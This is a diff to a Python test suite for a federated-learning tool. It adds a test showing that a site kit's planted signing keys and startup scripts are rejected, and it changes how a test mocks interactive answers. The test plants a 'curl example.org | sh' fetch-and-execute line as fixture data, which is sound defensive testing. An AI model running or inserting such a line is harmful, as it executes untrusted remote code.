@@ -2,6 +2,7 @@
 
 import json
 from dataclasses import replace
+from functools import partial
 from pathlib import Path
 
 import numpy as np
@@ -19,7 +20,7 @@ from fedcal.experiments.runs.jobs import job_of
 from fedcal.experiments.study.joining import Kit, join, rows_of
 from fedcal.experiments.study.kits import seal
 from fedcal.experiments.study.sealed import Join
-from fedcal.secure_aggregation.keys import SigningKey, read_key
+from fedcal.secure_aggregation.keys import SigningKey, make_key, read_key
 from fedcal.strategies.server.job import terms_of_job
 
 pytestmark = pytest.mark.usefixtures("quick_figures")
@@ -121,6 +122,20 @@ def test_nothing_of_a_row_is_in_a_join(there):
     assert Join.read(there.folder / "alder.join").key != made.key
 
 
+def test_a_kit_brings_neither_keys_nor_code(there):
+    there.kits()
+    kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
+    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+        (kit / name).write_text(strange)
+    (kit / "keys").mkdir()
+    planted = make_key(kit / "keys" / "signing.pem").public
+    rows = str(write_rows(there.folder / "rows.csv"))
+    assert any("somebody else made them" in line for line in join(kit, rows)[1])
+    assert not any("keys" in line for line in join(kit, rows, new_keys=True)[1])
+    assert Join.read(there.folder / "alder.join").key != planted
+    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
+
+
 def test_wrong_rows_leave_nothing_behind(there, capsys):
     there.kits()
     write_rows(there.folder / "rows.csv", changed(patient=None))
@@ -148,15 +163,21 @@ def test_the_page_at_home_has_the_exact_numbers_and_is_its_users_alone(there):
     assert at_home.STATEMENT.split("'")[0] in page
 
 
+def said(answers, prompt):
+    for answer in answers:
+        return answer
+    raise EOFError(prompt)
+
+
 def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
     there.joined()
     sealed = there.seal()
     words = ["site", "accept", str(there.kit()), str(there.sealed)]
     assert _run(words) == 2  # nobody is here to say yes
-    for answer, code in (("no", 2), ("", 2), ("yes", 0)):
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
+    for answer, code in ((iter(()), 2), (iter(["no"]), 2), (iter(["yes"]), 0)):
         assert not (there.kit() / "site.toml").exists()
-        monkeypatch.setattr("sys.stdin.isatty", lambda: True)
-        monkeypatch.setattr("builtins.input", lambda _, answer=answer: answer)
+        monkeypatch.setattr("builtins.input", partial(said, answer))
         assert _run(words) == code
     shown = capsys.readouterr().out
     for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
